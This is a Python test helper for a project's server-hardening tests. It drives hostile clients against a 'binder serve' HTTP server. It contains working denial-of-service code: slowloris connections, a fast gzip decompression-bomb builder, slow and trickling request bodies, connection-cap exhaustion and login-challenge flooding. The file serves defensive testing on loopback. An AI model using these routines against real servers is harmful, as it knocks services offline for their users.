#!/usr/bin/env python3
"""What a hostile client does to `binder serve`, for ServerHardeningTests and scripts/bench.
Every loop is bounded in count and time and stops by itself; only loopback addresses are used.

usage:
  server_attacks.py slowloris HOST PORT COUNT SECONDS REPORT [--until-closed N] SOURCE...
      Keeps COUNT connections open from the SOURCE addresses (round robin), each sending a
      header line a second and never finishing its request; reconnects those the server
      closes, for SECONDS (or until the server closed N of them; SIGTERM also stops it).
      Writes "open N closed M" lines to REPORT as it goes, then a JSON summary.
  server_attacks.py bomb URL MEGABYTES TOKEN [SERVICE]
      POSTs a gzip body that inflates to MEGABYTES MiB of zeros (TOKEN: a file, "none" or
      "bogus"); prints the HTTP status, or "reset" if the server cut the connection first.
  server_attacks.py post URL BODY TOKEN [ENCODING]
      POSTs BODY (a number: that many zero bytes; text:T: the text T) plain or gzip;
      prints the status or "reset".
  server_attacks.py logins HOST PORT COUNT SOURCE [PATH]
      POSTs COUNT login challenges (or `{}` to PATH) from SOURCE; prints the statuses.
  server_attacks.py slowbody URL TOKEN SECONDS [LENGTH]
      Starts a POST of LENGTH bytes (default 100,000), sends 10 of them, then waits up to SECONDS for the
      server to close the connection; prints "closed" or "open".
  server_attacks.py cap HOST PORT COUNT SOURCE
      Opens COUNT silent connections from SOURCE and prints how many the server answered
      "HTTP/1.1 503" within a second (those past its per-address cap and queue), not reset.
  server_attacks.py trickle URL TOKEN LENGTH STEP_BYTES STEP_SECONDS MAX_SECONDS
      Starts a POST of LENGTH bytes and sends STEP_BYTES of it every STEP_SECONDS, for at most
      MAX_SECONDS; prints the status the server answers, "closed" if it closed the connection
      first, or "open" if MAX_SECONDS passed with neither.
  server_attacks.py challenge-flood URL NSEC_FILE USER_SOURCE COUNT FLOOD_SOURCE...
      A user at USER_SOURCE asks for a login challenge; a second later, COUNT challenges are asked
      for from the FLOOD_SOURCE addresses (round robin, kept-alive connections); then the user answers
      its challenge, signed with rust-nostr. Prints "<challenges given to the flood> <verify status>".
  server_attacks.py throttle UPSTREAM_PORT PORT_FILE BYTES_PER_SECOND PAUSE_AFTER PAUSE SECONDS
      A TCP relay on loopback (its port written to PORT_FILE) that passes what clients send at
      most BYTES_PER_SECOND, stops for PAUSE seconds once PAUSE_AFTER bytes of a connection
      went through (a link dropping out), and passes answers at full speed; exits after SECONDS.
"""
import functools
import gzip
import http.client
import json
import os
import select
import selectors
import signal
import socket
import struct
import sys
import time
import urllib.parse
import zlib


def token_header(token):
    if token == "none":
        return {}
    if token == "bogus":
        return {"Authorization": "Bearer eyJhbGciOiJIUzI1NiJ9.eyJwdWJrZXkiOiJ4In0.Zm9yZ2Vk"}
    with open(token, encoding="utf-8") as f:
        return {"Authorization": "Bearer " + f.read().strip()}


def send(url, body_chunks, headers):
    """POSTs the chunks (Content-Length known); returns the status or "reset"."""
    parts = urllib.parse.urlsplit(url)
    total = sum(len(c) for c in body_chunks)
    connection = http.client.HTTPConnection(parts.hostname, parts.port, timeout=60)
    try:
        connection.putrequest("POST", parts.path + ("?" + parts.query if parts.query else ""))
        for name, value in headers.items():
            connection.putheader(name, value)
        connection.putheader("Content-Length", str(total))
        connection.endheaders()
        try:
            for chunk in body_chunks:
                connection.send(chunk)
        except (BrokenPipeError, ConnectionResetError):
            pass  # the server stopped reading: its answer may still be there
        response = connection.getresponse()
        response.read()
        return str(response.status)
    except (BrokenPipeError, ConnectionResetError, http.client.RemoteDisconnected, socket.timeout):
        return "reset"
    finally:
        connection.close()


@functools.lru_cache(maxsize=4)
def bomb_chunks(megabytes):
    """A valid gzip stream of MEGABYTES MiB of zeros, about 1 KiB per MiB. One MiB is deflated
    once and ended with a full flush (which resets the compressor), so the same bytes stand for
    every MiB: a gigabyte's bomb is made in about a second."""
    block = bytes(1 << 20)
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    once = compressor.compress(block) + compressor.flush(zlib.Z_FULL_FLUSH)
    end = compressor.flush(zlib.Z_FINISH)
    crc = 0
    for _ in range(megabytes):
        crc = zlib.crc32(block, crc)
    header = b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\xff"
    trailer = struct.pack("<II", crc, (megabytes << 20) & 0xFFFFFFFF)
    return tuple([header] + [once] * megabytes + [end, trailer])


def bomb(url, megabytes, token, service="git-upload-pack"):
    headers = {"Content-Encoding": "gzip", "Content-Type": "application/x-%s-request" % service}
    headers.update(token_header(token))
    return send(url, bomb_chunks(megabytes), headers)


def post(url, body, token, encoding="plain"):
    body = body[5:].encode() if body.startswith("text:") else bytes(int(body))
    headers = token_header(token)
    if encoding == "gzip":
        body = gzip.compress(body)
        headers["Content-Encoding"] = "gzip"
    return send(url, [body[i:i + 65536] for i in range(0, len(body), 65536)], headers)


def logins(host, port, count, source, path="/api/auth/nostr/challenge"):
    statuses = []
    for _ in range(count):
        connection = http.client.HTTPConnection(host, port, timeout=30, source_address=(source, 0))
        try:
            connection.request("POST", path, body=b"{}", headers={"Content-Type": "application/json"})
            response = connection.getresponse()
            response.read()
            statuses.append(str(response.status))
        except (ConnectionResetError, http.client.RemoteDisconnected):
            statuses.append("reset")
        finally:
            connection.close()
    return " ".join(statuses)


def slowbody(url, token, seconds, length=100000):
    parts = urllib.parse.urlsplit(url)
    s = socket.create_connection((parts.hostname, parts.port), timeout=5)
    headers = "".join("%s: %s\r\n" % item for item in token_header(token).items())
    s.sendall(("POST %s HTTP/1.1\r\nHost: %s\r\n%sContent-Length: %d\r\n\r\n"
               % (parts.path, parts.hostname, headers, length)).encode() + bytes(10))
    s.settimeout(seconds)
    try:
        while s.recv(4096):
            pass  # an answer may come before the close
        return "closed"
    except socket.timeout:
        return "open"
    except OSError:
        return "closed"
    finally:
        s.close()


def cap(host, port, count, source):
    sockets = []
    for _ in range(count):
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.bind((source, 0))
        s.settimeout(5)
        s.connect((host, port))
        sockets.append(s)
    time.sleep(1)
    answered = 0
    for s in sockets:
        s.setblocking(False)
        try:
            if s.recv(12) == b"HTTP/1.1 503":
                answered += 1
        except OSError:
            pass
        s.close()
    return answered


def trickle(url, token, length, step_bytes, step_seconds, max_seconds):
    parts = urllib.parse.urlsplit(url)
    s = socket.create_connection((parts.hostname, parts.port), timeout=5)
    headers = "".join("%s: %s\r\n" % item for item in token_header(token).items())
    s.sendall(("POST %s HTTP/1.1\r\nHost: %s\r\n%sContent-Length: %d\r\n\r\n"
               % (parts.path, parts.hostname, headers, length)).encode())
    deadline = time.monotonic() + max_seconds
    sent = 0
    answer = b""
    try:
        while time.monotonic() < deadline:
            if sent < length:
                step = min(step_bytes, length - sent)
                try:
                    s.sendall(bytes(step))
                except OSError:
                    return "closed"
                sent += step
            # Wait out the step, watching for an answer or a close.
            readable, _, _ = select.select([s], [], [], step_seconds if sent < length else max(0.0, deadline - time.monotonic()))
            if readable:
                try:
                    data = s.recv(4096)
                except OSError:
                    data = b""
                if not data:
                    return answer.split(b" ")[1].decode() if answer.startswith(b"HTTP/") else "closed"
                answer += data
                if b"\r\n" in answer:
                    return answer.split(b" ")[1].decode()
        return "open"
    finally:
        s.close()


def challenge_flood(url, nsec_file, user_source, count, flood_sources):
    import nostr_sdk as n
    parts = urllib.parse.urlsplit(url)

    def ask(connection, path, body):
        connection.request("POST", path, body=json.dumps(body).encode(), headers={"Content-Type": "application/json"})
        response = connection.getresponse()
        return response.status, response.read()

    user = http.client.HTTPConnection(parts.hostname, parts.port, timeout=30, source_address=(user_source, 0))
    status, body = ask(user, "/api/auth/nostr/challenge", {})
    assert status == 200, (status, body)
    challenge = json.loads(body)["challenge"]
    user.close()
    time.sleep(1.1)  # every challenge of the flood expires strictly after the user's (whole seconds)
    floods = [http.client.HTTPConnection(parts.hostname, parts.port, timeout=30, source_address=(source, 0))
              for source in flood_sources]
    given = 0
    for i in range(count):
        connection = floods[i % len(floods)]
        try:
            status, _ = ask(connection, "/api/auth/nostr/challenge", {})
        except (ConnectionError, http.client.HTTPException):
            connection.close()
            continue
        given += status == 200
    for connection in floods:
        connection.close()
    with open(nsec_file, encoding="utf-8") as f:
        keys = n.Keys(n.SecretKey.parse(f.read().strip()))
    event = json.loads(n.EventBuilder(n.Kind(22242), challenge).tags([n.Tag.parse(["challenge", challenge])])
                       .finalize(keys).as_json())
    user = http.client.HTTPConnection(parts.hostname, parts.port, timeout=30, source_address=(user_source, 0))
    status, _ = ask(user, "/api/auth/nostr/verify", {"signedEvent": event, "challenge": challenge, "userType": "patient"})
    user.close()
    return "%d %d" % (given, status)


def throttle(upstream_port, port_file, rate, pause_after, pause, seconds):
    import threading
    listener = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    listener.bind(("127.0.0.1", 0))
    listener.listen(16)
    listener.settimeout(0.5)
    with open(port_file + ".tmp", "w") as f:
        f.write(str(listener.getsockname()[1]))
    os.rename(port_file + ".tmp", port_file)
    deadline = time.monotonic() + seconds

    def pipe(source, target, limited):
        passed = 0
        paused = False
        source.settimeout(1)
        try:
            while time.monotonic() < deadline:
                try:
                    data = source.recv(max(1, rate // 10) if limited else 65536)
                except socket.timeout:
                    continue
                if not data:
                    break
                target.sendall(data)
                passed += len(data)
                if limited:
                    time.sleep(len(data) / rate)
                    if not paused and passed >= pause_after:
                        paused = True
                        time.sleep(pause)
        except OSError:
            pass
        finally:
            for s in (source, target):
                try:
                    s.shutdown(socket.SHUT_RDWR)
                except OSError:
                    pass

    while time.monotonic() < deadline:
        try:
            client, _ = listener.accept()
        except socket.timeout:
            continue
        server = socket.create_connection(("127.0.0.1", upstream_port), timeout=5)
        threading.Thread(target=pipe, args=(client, server, True), daemon=True).start()
        threading.Thread(target=pipe, args=(server, client, False), daemon=True).start()
    listener.close()


def slowloris(host, port, count, seconds, report_path, sources, until_closed=None):
    selector = selectors.DefaultSelector()
    open_sockets = {}
    summary = {"opened": 0, "refused": 0, "closed_by_server": 0, "max_open": 0}
    next_source = 0
    report = open(report_path, "w", buffering=1)
    deadline = time.monotonic() + seconds

    def connect():
        nonlocal next_source
        source = sources[next_source % len(sources)]
        next_source += 1
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        try:
            s.bind((source, 0))
            s.settimeout(5)
            s.connect((host, port))
            s.sendall(b"GET /api/mgit/user/repositories HTTP/1.1\r\nHost: %s\r\n" % host.encode())
            s.setblocking(False)
        except OSError:
            s.close()
            summary["refused"] += 1
            return
        summary["opened"] += 1
        open_sockets[s.fileno()] = s
        selector.register(s, selectors.EVENT_READ)

    def drop(s, by_server):
        selector.unregister(s)
        del open_sockets[s.fileno()]
        s.close()
        if by_server:
            summary["closed_by_server"] += 1

    stopping = []
    signal.signal(signal.SIGTERM, lambda *_: stopping.append(True))   # stop early, still report
    last_trickle = 0.0
    attempts = 0
    while time.monotonic() < deadline and not stopping:
        if until_closed is not None and summary["closed_by_server"] >= until_closed:
            break
        # Top up, at most COUNT new connections a round and 20 * COUNT in all (bounded).
        missing = count - len(open_sockets)
        for _ in range(missing):
            if attempts >= 20 * count:
                break
            attempts += 1
            connect()
        summary["max_open"] = max(summary["max_open"], len(open_sockets))
        report.write("open %d closed %d\n" % (len(open_sockets), summary["closed_by_server"]))
        for key, _ in selector.select(timeout=0.2):
            s = key.fileobj
            try:
                data = s.recv(4096)
            except (ConnectionResetError, BlockingIOError, OSError):
                data = b""
            if not data:
                drop(s, True)
        if time.monotonic() - last_trickle >= 1:
            last_trickle = time.monotonic()
            for s in list(open_sockets.values()):
                try:
                    s.send(b"X-Slow: 1\r\n")
                except (BlockingIOError, InterruptedError):
                    pass
                except OSError:
                    drop(s, True)
    for s in list(open_sockets.values()):
        drop(s, False)
    report.write(json.dumps(summary) + "\n")
    report.close()
    return summary


def main(argv):
    command = argv[1]
    if command == "slowloris":
        host, port, count, seconds, report = argv[2], int(argv[3]), int(argv[4]), float(argv[5]), argv[6]
        until_closed, sources = (int(argv[8]), argv[9:]) if argv[7:8] == ["--until-closed"] else (None, argv[7:])
        print(json.dumps(slowloris(host, port, count, seconds, report, sources, until_closed)))
    elif command == "bomb":
        print(bomb(argv[2], int(argv[3]), argv[4], *(argv[5:6])))
    elif command == "post":
        print(post(argv[2], argv[3], argv[4], *(argv[5:6])))
    elif command == "logins":
        print(logins(argv[2], int(argv[3]), int(argv[4]), argv[5], *(argv[6:7])))
    elif command == "slowbody":
        print(slowbody(argv[2], argv[3], float(argv[4]), *[int(a) for a in argv[5:6]]))
    elif command == "cap":
        print(cap(argv[2], int(argv[3]), int(argv[4]), argv[5]))
    elif command == "trickle":
        print(trickle(argv[2], argv[3], int(argv[4]), int(argv[5]), float(argv[6]), float(argv[7])))
    elif command == "challenge-flood":
        print(challenge_flood(argv[2], argv[3], argv[4], int(argv[5]), argv[6:]))
    elif command == "throttle":
        throttle(int(argv[2]), argv[3], int(argv[4]), int(argv[5]), float(argv[6]), float(argv[7]))
    else:
        print(__doc__, file=sys.stderr)
        return 2
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
